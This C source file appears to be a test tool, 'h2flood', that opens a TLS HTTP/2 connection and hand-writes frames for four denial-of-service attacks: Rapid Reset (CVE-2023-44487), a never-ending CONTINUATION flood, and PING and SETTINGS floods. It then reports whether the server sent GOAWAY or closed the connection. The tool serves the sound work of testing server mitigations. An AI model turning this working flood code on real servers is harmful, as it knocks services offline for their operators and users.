/*
 * h2flood.c - a hostile HTTP/2 client for tests: one TLS connection (ALPN
 * h2), the preface and an empty SETTINGS, then one attack, frames written
 * by hand:
 *
 *  --rapid-reset N   N times HEADERS (a GET, END_HEADERS but no
 *                    END_STREAM: the stream stays open) at once followed
 *                    by RST_STREAM(CANCEL), on stream ids 1, 3, 5...
 *                    (CVE-2023-44487);
 *  --continuation N  one HEADERS without END_HEADERS, then N CONTINUATION
 *                    frames of one literal field each, never ending;
 *  --ping N          N PING frames, the ACKs not read while sending;
 *  --settings N      N SETTINGS frames (one entry each), likewise.
 *
 * For --ping and --settings the receive buffer is made small before
 * connecting, so that the server's acknowledgements pile up on its side
 * quickly, as they would from a client that never reads.
 *
 * Then it reads until the server closes the connection (bounded by
 * --timeout seconds from the start, default 10) and prints one line:
 *     goaway=1 error=ENHANCE_YOUR_CALM closed=1 sent=N
 * (goaway=0 error=- when no GOAWAY came; sent counts the attack's units
 * that went whole into the socket before the server closed it). Exit 0 when the server reacted
 * (GOAWAY or closed) within the timeout, 1 when not, 2 on a usage or
 * connection error.
 *
 * Other flags: --connect HOST:PORT (default 127.0.0.1:8443) --sni NAME
 * --authority NAME (default the SNI, else "localhost") --ca FILE (verify
 * the server; without it nothing is verified: a test tool).
 * Single-threaded; a non-blocking socket with poll() for every wait.
 */
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

enum attack { A_NONE, A_RAPID_RESET, A_CONTINUATION, A_PING, A_SETTINGS };

/* HTTP/2 frame types and flags used here (RFC 9113). */
enum { F_DATA, F_HEADERS, F_PRIORITY, F_RST_STREAM, F_SETTINGS, F_PUSH_PROMISE,
	F_PING, F_GOAWAY, F_WINDOW_UPDATE, F_CONTINUATION };
#define FL_END_STREAM	0x01
#define FL_END_HEADERS	0x04
#define ERR_CANCEL	0x8

static const char *opt_connect = "127.0.0.1:8443", *opt_sni, *opt_ca, *opt_authority;
static double	 opt_timeout = 10;
static enum attack opt_attack;
static unsigned long opt_n;

static int	 fd = -1;
static SSL	*ssl;
static double	 deadline;
static int	 closed;		/* the server closed or reset */

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void
die(const char *what)
{
	fprintf(stderr, "h2flood: %s\n", what);
	ERR_print_errors_fp(stderr);
	exit(2);
}

/* Wait for ev on fd until the deadline; 0 when ready, -1 past it. */
static int
wait_fd(short ev)
{
	double left = deadline - now();
	struct pollfd p = { .fd = fd, .events = ev };

	if (left <= 0)
		return -1;
	if (poll(&p, 1, (int)(left * 1000) + 1) <= 0)
		return -1;
	return 0;
}

/* Waits as SSL asks after r; 0 to retry, -1 when the connection is gone
 * (closed is set) or the deadline passed. */
static int
ssl_wait(int r)
{
	switch (SSL_get_error(ssl, r)) {
	case SSL_ERROR_WANT_READ:
		return wait_fd(POLLIN);
	case SSL_ERROR_WANT_WRITE:
		return wait_fd(POLLOUT);
	default:
		closed = 1;
		return -1;
	}
}

static void
connect_tls(void)
{
	char		 host[256], *colon;
	struct addrinfo	 hints = { .ai_socktype = SOCK_STREAM }, *ai;
	SSL_CTX		*ctx;
	const uint8_t	 alpn[] = "\x02h2";
	int		 r, one = 1;

	snprintf(host, sizeof(host), "%s", opt_connect);
	if ((colon = strrchr(host, ':')) == NULL)
		die("--connect wants HOST:PORT");
	*colon = '\0';
	if (host[0] == '[') {
		memmove(host, host + 1, strlen(host));
		host[strlen(host) - 1] = '\0';
	}
	if (getaddrinfo(host, colon + 1, &hints, &ai) != 0)
		die("cannot resolve --connect");
	if ((fd = socket(ai->ai_family, SOCK_STREAM, 0)) < 0)
		die("socket");
	if (opt_attack == A_PING || opt_attack == A_SETTINGS) {
		int small = 4096;
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	}
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (connect(fd, ai->ai_addr, ai->ai_addrlen) != 0)
		die("connect");
	freeaddrinfo(ai);
	fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);

	ctx = SSL_CTX_new(TLS_method());
	SSL_CTX_set_min_proto_version(ctx, TLS1_2_VERSION);
	/* Each record counts as written once it is (see units_sent). */
	SSL_CTX_set_mode(ctx, SSL_MODE_ENABLE_PARTIAL_WRITE);
	if (SSL_CTX_set_alpn_protos(ctx, alpn, 3) != 0)
		die("alpn");
	if (opt_ca != NULL) {
		if (!SSL_CTX_load_verify_locations(ctx, opt_ca, NULL))
			die("cannot load --ca");
		SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
	}
	ssl = SSL_new(ctx);
	SSL_set_fd(ssl, fd);
	if (opt_sni != NULL) {
		SSL_set_tlsext_host_name(ssl, opt_sni);
		if (opt_ca != NULL)
			X509_VERIFY_PARAM_set1_host(SSL_get0_param(ssl), opt_sni, 0);
	}
	SSL_set_connect_state(ssl);
	while ((r = SSL_do_handshake(ssl)) != 1)
		if (ssl_wait(r) != 0)
			die("TLS handshake failed");
	{
		const uint8_t	*p;
		unsigned	 l;

		SSL_get0_alpn_selected(ssl, &p, &l);
		if (l != 2 || memcmp(p, "h2", 2) != 0)
			die("h2 not negotiated");
	}
	SSL_CTX_free(ctx);
}

/* The output buffer, written in batches. Every unit of an attack has the
 * same size, so the units sent are counted from the bytes written. */
static uint8_t	 out[65536];
static size_t	 outlen;
static unsigned long long written, attack_start;
static size_t	 unit_size;

/* Write what is buffered; -1 when the server is gone (or the deadline). */
static int
flush(void)
{
	size_t off = 0;

	while (off < outlen) {
		int r = SSL_write(ssl, out + off, (int)(outlen - off));
		if (r > 0) {
			off += (size_t)r;
			written += (unsigned long long)r;
			continue;
		}
		if (ssl_wait(r) != 0)
			return -1;
	}
	outlen = 0;
	return 0;
}

/* Units of the attack written whole. */
static unsigned long long
units_sent(void)
{
	if (unit_size == 0 || written < attack_start)
		return 0;
	return (written - attack_start) / unit_size;
}

static void
put(const void *p, size_t n)
{
	if (outlen + n > sizeof(out))
		die("frame too large for the buffer");
	memcpy(out + outlen, p, n);
	outlen += n;
}

static void
frame(uint8_t type, uint8_t flags, uint32_t id, const void *payload, size_t n)
{
	uint8_t h[9] = { (uint8_t)(n >> 16), (uint8_t)(n >> 8), (uint8_t)n, type, flags,
		(uint8_t)(id >> 24 & 0x7f), (uint8_t)(id >> 16), (uint8_t)(id >> 8), (uint8_t)id };

	put(h, 9);
	if (n > 0)
		put(payload, n);
}

/* HPACK: a length with a 7-bit prefix (no Huffman). */
static size_t
hp_len(uint8_t *p, size_t n)
{
	size_t i = 0;

	if (n < 127) {
		p[i++] = (uint8_t)n;
		return i;
	}
	p[i++] = 127;
	n -= 127;
	while (n >= 128) {
		p[i++] = (uint8_t)(n % 128 + 128);
		n /= 128;
	}
	p[i++] = (uint8_t)n;
	return i;
}

/* A literal field without indexing, new name. */
static size_t
hp_literal(uint8_t *p, const char *name, const char *value)
{
	size_t i = 0;

	p[i++] = 0x00;
	i += hp_len(p + i, strlen(name));
	memcpy(p + i, name, strlen(name));
	i += strlen(name);
	i += hp_len(p + i, strlen(value));
	memcpy(p + i, value, strlen(value));
	i += strlen(value);
	return i;
}

/* GET https://authority/ as a header block. */
static size_t
hp_get(uint8_t *p)
{
	size_t i = 0;

	p[i++] = 0x82;		/* :method GET (static table 2) */
	p[i++] = 0x87;		/* :scheme https (7) */
	p[i++] = 0x84;		/* :path / (4) */
	i += hp_literal(p + i, ":authority", opt_authority);
	return i;
}

static void
attack(void)
{
	uint8_t		 blk[2048];
	uint8_t		 zero8[8] = { 0 };
	uint8_t		 set[6] = { 0, 2, 0, 0, 0, 0 };	/* ENABLE_PUSH = 0 */
	uint8_t		 rst[4] = { 0, 0, 0, ERR_CANCEL };
	char		 value[1001];
	unsigned long	 i;
	size_t		 n;

	put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
	frame(F_SETTINGS, 0, 0, NULL, 0);
	if (flush() != 0)
		return;
	memset(value, 'v', sizeof(value) - 1);
	value[sizeof(value) - 1] = '\0';
	if (opt_attack == A_CONTINUATION) {
		n = hp_get(blk);
		frame(F_HEADERS, 0, 1, blk, n);
	}
	attack_start = written + outlen;
	for (i = 0; i < opt_n; i++) {
		size_t before = outlen;

		switch (opt_attack) {
		case A_RAPID_RESET: {
			uint32_t id = (uint32_t)(2 * i + 1);

			n = hp_get(blk);
			frame(F_HEADERS, FL_END_HEADERS, id, blk, n);
			frame(F_RST_STREAM, 0, id, rst, 4);
			break;
		}
		case A_CONTINUATION: {
			char name[32];

			/* Fixed width: every frame the same size. */
			snprintf(name, sizeof(name), "x-c%09lu", i % 1000000000);
			n = hp_literal(blk, name, value);
			frame(F_CONTINUATION, 0, 1, blk, n);
			break;
		}
		case A_PING:
			zero8[7] = (uint8_t)i;
			frame(F_PING, 0, 0, zero8, 8);
			break;
		case A_SETTINGS:
			frame(F_SETTINGS, 0, 0, set, 6);
			break;
		case A_NONE:
			return;
		}
		unit_size = outlen - before;
		if (outlen > sizeof(out) - 4096 && flush() != 0)
			return;
	}
	flush();
}

static const char *
err_name(uint32_t e)
{
	static const char *names[] = { "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR",
		"FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
		"REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
		"ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED" };

	return e < sizeof(names) / sizeof(names[0]) ? names[e] : "UNKNOWN";
}

/* Read frames until the server closes or the deadline; note a GOAWAY.
 * Also after a failed write: what the server sent before closing may
 * still be there to read. */
static void
read_until_closed(int *goaway, uint32_t *code)
{
	static uint8_t	 in[65536];
	size_t		 len = 0;

	for (;;) {
		int r = SSL_read(ssl, in + len, (int)(sizeof(in) - len));

		if (r <= 0) {
			if (SSL_get_error(ssl, r) == SSL_ERROR_ZERO_RETURN) {
				closed = 1;
				break;
			}
			if (ssl_wait(r) != 0)
				break;
			continue;
		}
		len += (size_t)r;
		for (;;) {
			size_t flen;

			if (len < 9)
				break;
			flen = (size_t)in[0] << 16 | (size_t)in[1] << 8 | in[2];
			if (flen + 9 > sizeof(in))
				die("frame too large");
			if (len < 9 + flen)
				break;
			if (in[3] == F_GOAWAY && flen >= 8 && !*goaway) {
				*goaway = 1;
				*code = (uint32_t)in[13] << 24 | (uint32_t)in[14] << 16 |
				    (uint32_t)in[15] << 8 | in[16];
			}
			memmove(in, in + 9 + flen, len - 9 - flen);
			len -= 9 + flen;
		}
	}
}

static void
usage(void)
{
	fprintf(stderr, "usage: h2flood --connect HOST:PORT [--sni NAME] [--ca FILE]\n"
	    "    [--authority NAME] [--timeout S]\n"
	    "    --rapid-reset N | --continuation N | --ping N | --settings N\n");
	exit(2);
}

int
main(int argc, char **argv)
{
	int		 goaway = 0;
	uint32_t	 code = 0;

	for (int i = 1; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;

		if (v == NULL)
			usage();
		i++;
		if (strcmp(a, "--connect") == 0)
			opt_connect = v;
		else if (strcmp(a, "--sni") == 0)
			opt_sni = v;
		else if (strcmp(a, "--ca") == 0)
			opt_ca = v;
		else if (strcmp(a, "--authority") == 0)
			opt_authority = v;
		else if (strcmp(a, "--timeout") == 0)
			opt_timeout = atof(v);
		else {
			if (strcmp(a, "--rapid-reset") == 0)
				opt_attack = A_RAPID_RESET;
			else if (strcmp(a, "--continuation") == 0)
				opt_attack = A_CONTINUATION;
			else if (strcmp(a, "--ping") == 0)
				opt_attack = A_PING;
			else if (strcmp(a, "--settings") == 0)
				opt_attack = A_SETTINGS;
			else
				usage();
			opt_n = strtoul(v, NULL, 10);
		}
	}
	/* Stream ids stay below 2^31. */
	if (opt_attack == A_NONE || opt_timeout <= 0 || opt_n > 1UL << 30)
		usage();
	if (opt_authority == NULL)
		opt_authority = opt_sni != NULL ? opt_sni : "localhost";
	if (strlen(opt_authority) > 200)
		usage();
	signal(SIGPIPE, SIG_IGN);
	deadline = now() + opt_timeout;
	connect_tls();
	attack();
	read_until_closed(&goaway, &code);
	printf("goaway=%d error=%s closed=%d sent=%llu\n", goaway,
	    goaway ? err_name(code) : "-", closed, units_sent());
	return goaway || closed ? 0 : 1;
}
